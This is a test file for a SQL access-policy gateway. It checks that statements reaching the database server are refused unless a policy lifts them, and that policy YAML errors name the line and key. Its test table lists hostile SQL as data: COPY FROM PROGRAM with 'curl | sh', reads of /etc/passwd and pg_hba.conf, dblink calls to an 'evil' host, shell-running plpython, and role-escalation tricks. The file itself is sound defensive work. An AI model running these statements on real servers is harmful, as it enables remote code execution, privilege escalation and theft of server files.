// The server-access baseline (docs/policy.md `server_access`): what the classifier sees that reaches the database server
// itself is refused for everyone before any rule, unless `server_access:` lifts it for a group; and
// the `server_access:` and `functions:` sections parse with errors that name the line and key.
import { beforeAll, describe, expect, it } from 'vitest';
import { classify, initClassifier } from '../../src/policy/classify/index.js';
import { baselineNeeds, baselineRefusal, NO_SERVER_ACCESS } from '../../src/policy/server-access.js';
import { decideStatements } from '../../src/policy/decide.js';
import { parsePolicyFile } from '../../src/policy/file.js';
import { policyErrorOf } from '../support/policy-errors.js';

beforeAll(async () => {
  await initClassifier();
});

function needs(sql: string): string[] {
  const c = classify(sql);
  if (!c.ok) throw new Error(`${sql}: ${c.error}`);
  return c.statements.map((s) => baselineNeeds(s)?.capability ?? '-');
}

// [sql, capability the baseline withholds ('-': none)]
const ROWS: [string, string][] = [
  ["COPY patients FROM PROGRAM 'curl http://x | sh'", 'programs'],
  ["COPY (SELECT 1) TO PROGRAM 'cat > /dev/null'", 'programs'],
  ["COPY patients TO '/tmp/p.csv'", 'files'],
  ["COPY patients FROM '/etc/passwd'", 'files'],
  ['COPY patients TO STDOUT', '-'],
  ['COPY patients FROM STDIN', '-'],
  ["SELECT pg_read_file('/etc/passwd')", 'files'],
  ["SELECT pg_catalog.pg_read_file('/etc/passwd')", 'files'],
  ["SELECT \"pg_catalog\".pg_read_binary_file('/etc/passwd')", 'files'],
  ["SELECT * FROM pg_ls_dir('.')", 'files'],
  ["SELECT * FROM pg_catalog.pg_ls_waldir()", 'files'],
  ["SELECT length(upper(encode(pg_read_binary_file('x'), 'hex')))", 'files'],
  ["SELECT 1 WHERE EXISTS (SELECT 1 FROM pg_stat_file('postgresql.conf') s)", 'files'],
  ["SELECT x FROM (SELECT pg_read_file('pg_hba.conf') AS x) s", 'files'],
  ["WITH f AS (SELECT lo_import('/etc/passwd') AS o) SELECT o FROM f", 'files'],
  ["SELECT lo_export(16385, '/tmp/x')", 'files'],
  ["PREPARE q AS SELECT pg_read_file($1)", 'files'],
  ["EXPLAIN ANALYZE SELECT pg_ls_logdir()", 'files'],
  ["CREATE VIEW v AS SELECT pg_read_file('/etc/passwd')", 'files'],
  ["ALTER SYSTEM SET archive_command = 'sh -c x'", 'alter_system'],
  ['ALTER SYSTEM RESET ALL', 'alter_system'],
  ['CREATE EXTENSION dblink', 'extensions'],
  ['CREATE EXTENSION IF NOT EXISTS plpython3u', 'extensions'],
  ["ALTER EXTENSION pgcrypto UPDATE TO '1.3'", 'extensions'],
  ['CREATE LANGUAGE plperlu', 'extensions'],
  ["LOAD 'auto_explain'", 'extensions'],
  ['DROP EXTENSION dblink', '-'],
  ['SET ROLE postgres', 'roles'],
  ["SET LOCAL ROLE 'postgres'", 'roles'],
  ['SET SESSION AUTHORIZATION postgres', 'roles'],
  ['SET ROLE "NONE"', 'roles'],
  ['SET ROLE NONE', '-'],
  ["SET ROLE 'none'", '-'],
  ['RESET ROLE', '-'],
  ['SET SESSION AUTHORIZATION DEFAULT', '-'],
  ['RESET SESSION AUTHORIZATION', '-'],
  ['DISCARD ALL', '-'],
  ['RESET ALL', '-'],
  ["SELECT set_config('role', 'postgres', false)", 'roles'],
  ["SELECT pg_catalog.set_config('ROLE'::text, 'postgres', true)", 'roles'],
  ["SELECT set_config('session_authorization', 'postgres', false)", 'roles'],
  ["SELECT count(*) FROM patients WHERE set_config('role', name, true) IS NOT NULL", 'roles'],
  ["SELECT set_config($1, 'postgres', false)", 'roles'],
  ["SELECT set_config(lower('ROLE'), 'postgres', false)", 'roles'],
  ["SELECT set_config(setting_name => 'role', new_value => 'postgres', is_local => false)", 'roles'],
  ["SELECT set_config('application_name', 'x', false)", '-'],
  ["SELECT set_config('search_path', 'public', true)", '-'],
  ["UPDATE pg_settings SET setting = 'postgres' WHERE name = 'role'", 'roles'],
  ["UPDATE pg_catalog.pg_settings SET setting = 'off' WHERE name = 'enable_seqscan'", 'roles'],
  ['SELECT name, setting FROM pg_settings', '-'],
  ['ALTER ROLE phigate_svc SET role = postgres', 'roles'],
  ['ALTER DATABASE ehr SET session_authorization = postgres', 'roles'],
  ['ALTER ROLE phigate_svc RESET role', '-'],
  ["ALTER ROLE phigate_svc SET search_path = public", '-'],
  ["SELECT dblink_connect('host=evil user=x')", 'remote'],
  ["SELECT dblink_connect_u('c', 'host=evil')", 'remote'],
  ["SELECT * FROM public.dblink('host=evil', 'select 1') AS t(x int)", 'remote'],
  ["SELECT dblink_exec('host=evil', 'drop table t')", 'remote'],
  ["CREATE SERVER evil FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil')", 'remote'],
  ["CREATE USER MAPPING FOR CURRENT_USER SERVER evil OPTIONS (user 'x')", 'remote'],
  ["CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p", 'remote'],
  ["DO LANGUAGE plpython3u $$ import os; os.system('id') $$", 'programs'],
  ["DO LANGUAGE plperlu $$ system('id') $$", 'programs'],
  ['DO $$ BEGIN NULL; END $$', '-'],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE c AS '/tmp/evil.so', 'f'", 'programs'],
  ["CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'import os'", 'programs'],
  ["CREATE PROCEDURE p() LANGUAGE internal AS 'int4in'", 'programs'],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS 'BEGIN RETURN 1; END'", '-'],
  ['CREATE FUNCTION f() RETURNS int RETURN 1', '-'],
  ["SELECT pg_read_file_x('a'), my_pg_ls()", '-'],
  // SQL given as text to a function that runs it is read as a statement; text that is not a literal cannot be decided.
  ["SELECT query_to_xml('select pg_read_file(''/etc/passwd'')', true, false, '')", 'files'],
  ["SELECT pg_catalog.query_to_xml('copy (select 1) to program ''id''', true, false, '')", 'programs'],
  ["SELECT query_to_xml_and_xmlschema('set role postgres', true, false, '')", 'roles'],
  ["SELECT query_to_xml('select query_to_xml(''select 1 from pg_ls_dir(''''.'''')'', true, false, '''')', true, false, '')", 'files'],
  ["SELECT query_to_xml($1, true, false, '')", 'programs'],
  ["SELECT query_to_xml('select ' || 'pg_read_file(''x'')', true, false, '')", 'programs'],
  ["SELECT query_to_xml('not sql at all', true, false, '')", 'programs'],
  ["SELECT query_to_xml('select id from visits', true, false, '')", '-'],
  ["SELECT * FROM ts_stat('SELECT to_tsvector(name) FROM patients')", '-'],
  ["SELECT * FROM ts_stat($1)", 'programs'],
  ["SELECT ts_rewrite('a'::tsquery, 'SELECT pg_read_file(''x'')::tsquery, ''b''::tsquery')", 'files'],
  ["SELECT ts_rewrite('a'::tsquery, 'a'::tsquery, 'b'::tsquery)", '-'],
];

describe('what the baseline withholds', () => {
  it.each(ROWS)('%s → %s', (sql, capability) => {
    expect(needs(sql)).toEqual([capability]);
  });

  it('says what the statement would do and how the policy lifts it', () => {
    const c = classify("COPY patients FROM PROGRAM 'id'");
    if (!c.ok) throw new Error(c.error);
    expect(baselineRefusal(c.statements[0]!, ['engineering'])).toEqual({
      capability: 'programs',
      reason: 'COPY FROM PROGRAM runs a program on the database server; the server-access baseline allows it only for groups listed under server_access.programs in the policy',
    });
  });

  it('is lifted per capability for the groups named, and only for that capability', () => {
    const c = classify("SELECT pg_read_file('/etc/passwd'), dblink_connect('host=x')");
    if (!c.ok) throw new Error(c.error);
    const st = c.statements[0]!;
    const access = { ...NO_SERVER_ACCESS, files: ['dba'] };
    expect(baselineRefusal(st, ['engineering'], access)?.capability).toBe('files');
    expect(baselineRefusal(st, ['dba'], access)?.capability).toBe('remote');
    expect(baselineRefusal(st, ['dba'], { ...access, remote: ['dba'] })).toBeUndefined();
    expect(baselineRefusal(st, ['dba'], { ...NO_SERVER_ACCESS, remote: ['dba'] })?.capability).toBe('files');
  });

  it('comes before every rule: an allow rule cannot let it through, and DO-like strictness does not lift it', () => {
    const policy = parsePolicyFile(`version: 1
connections:
  ehr: { upstream: "postgres://svc@db/ehr" }
rules:
  - name: dba-anything
    when: { groups: [dba] }
    action: allow
server_access:
  roles: [dba]
default: allow
`);
    const decide = (sql: string, groups: string[]) => {
      const c = classify(sql);
      if (!c.ok) throw new Error(c.error);
      return decideStatements(c.statements, {
        rules: policy.rules, defaultAction: policy.default, connection: 'ehr',
        identity: { name: 'x', subject: 'x', groups, kind: 'human' }, serverAccess: policy.serverAccess,
      });
    };
    expect(decide("COPY t FROM PROGRAM 'id'", ['dba'])).toMatchObject({ action: 'block', rule: 'server_access.programs' });
    expect(decide('SET ROLE postgres', ['dba'])).toMatchObject({ action: 'allow', rule: 'dba-anything' });
    expect(decide('SET ROLE postgres', ['engineering'])).toMatchObject({ action: 'block', rule: 'server_access.roles' });
    // In a multi-statement string, one withheld part refuses the whole string.
    expect(decide("SELECT 1; SELECT pg_ls_dir('.')", ['engineering'])).toMatchObject({ action: 'block', rule: 'server_access.files', statementIndex: 1 });
  });
});

const HEADER = `version: 1
connections:
  ehr: { upstream: "postgres://svc@db/ehr" }
`;

describe('policy file: server_access and functions', () => {
  it('parses both sections; absent, the baseline is lifted for nobody and no function is declared', () => {
    const none = parsePolicyFile(HEADER);
    expect(none.serverAccess).toEqual({ files: [], programs: [], alter_system: [], extensions: [], roles: [], remote: [] });
    expect(none.functions).toEqual([]);
    const p = parsePolicyFile(`${HEADER}server_access:
  files: [dba]
  programs: []
  alter_system: [dba]
  extensions: [dba, platform]
functions:
  - { name: public.normalize_phone, read_only: true, masked_readers: true }
  - { name: audit_touch, read_only: true }
  - { name: '"Mixed"."Case"', masked_readers: true }
`);
    expect(p.serverAccess).toEqual({ files: ['dba'], programs: [], alter_system: ['dba'], extensions: ['dba', 'platform'], roles: [], remote: [] });
    expect(p.functions).toEqual([
      { schema: 'public', name: 'normalize_phone', readOnly: true, maskedReaders: true },
      { name: 'audit_touch', readOnly: true, maskedReaders: false },
      { schema: 'Mixed', name: 'Case', readOnly: false, maskedReaders: true },
    ]);
  });

  it.each([
    [`server_access:\n  file: [dba]\n`, 'p.yaml:5:3: server_access.file: unknown key; expected one of files, programs, alter_system, extensions, roles, remote'],
    [`server_access:\n  roles: dba\n`, 'p.yaml:5:10: server_access.roles: expected a list of strings, got "dba"'],
    [`server_access: [dba]\n`, 'p.yaml:4:16: server_access: expected a mapping, got a list'],
    [`functions:\n  - { name: f, readonly: true }\n`, 'p.yaml:5:16: functions[0].readonly: unknown key; expected one of name, read_only, masked_readers'],
    [`functions:\n  - { read_only: true }\n`, 'p.yaml:5:5: functions[0].name: missing: name the function as name or schema.name'],
    [`functions:\n  - { name: "f(text)", read_only: true }\n`, 'p.yaml:5:13: functions[0].name: "f(text)" is not a function name; expected name or schema.name (no arguments: the entry covers every overload)'],
    [`functions:\n  - { name: a.b.c, read_only: true }\n`, 'p.yaml:5:13: functions[0].name: "a.b.c" is not a function name; expected name or schema.name (no arguments: the entry covers every overload)'],
    [`functions:\n  - { name: f, read_only: yes }\n`, 'p.yaml:5:27: functions[0].read_only: expected true or false, got "yes"'],
    [`functions:\n  - { name: f }\n`, 'p.yaml:5:5: functions[0]: declares nothing: set read_only: true and/or masked_readers: true (or leave the function out)'],
    [`functions:\n  - { name: public.f, read_only: true }\n  - { name: PUBLIC.F, masked_readers: true }\n`, 'p.yaml:6:13: functions[1].name: duplicate entry for function PUBLIC.F'],
    [`functions: {}\n`, 'p.yaml:4:12: functions: expected a list of functions, got a mapping'],
  ])('%j is refused with an error naming the line and key', (yaml, message) => {
    expect(policyErrorOf(HEADER + yaml).message).toBe(message);
  });
});
